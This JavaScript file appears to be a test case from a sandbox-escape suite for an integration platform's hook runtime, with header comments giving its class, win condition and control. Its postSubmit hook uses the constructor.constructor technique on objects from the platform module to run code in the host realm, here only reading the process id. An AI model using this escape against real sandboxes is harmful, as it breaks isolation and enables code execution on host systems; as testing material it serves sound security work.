// Walks from the platform's module and its areas up to the constructors of their prototypes.
// Class: platform-calls
// Win: the id holds the process id.
// Control: vm
const api = require('integrator-api');
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  for (const found of [api, api.exports, Object.getPrototypeOf(api.exports), api.exports['constructor']]) {
    try {
      options.responseData[0].id = 'ESCAPED:' + found.constructor.constructor('return process.pid')();
    } catch {
      // a constructor of the hook's own realm
    }
  }
  return options.responseData;
}
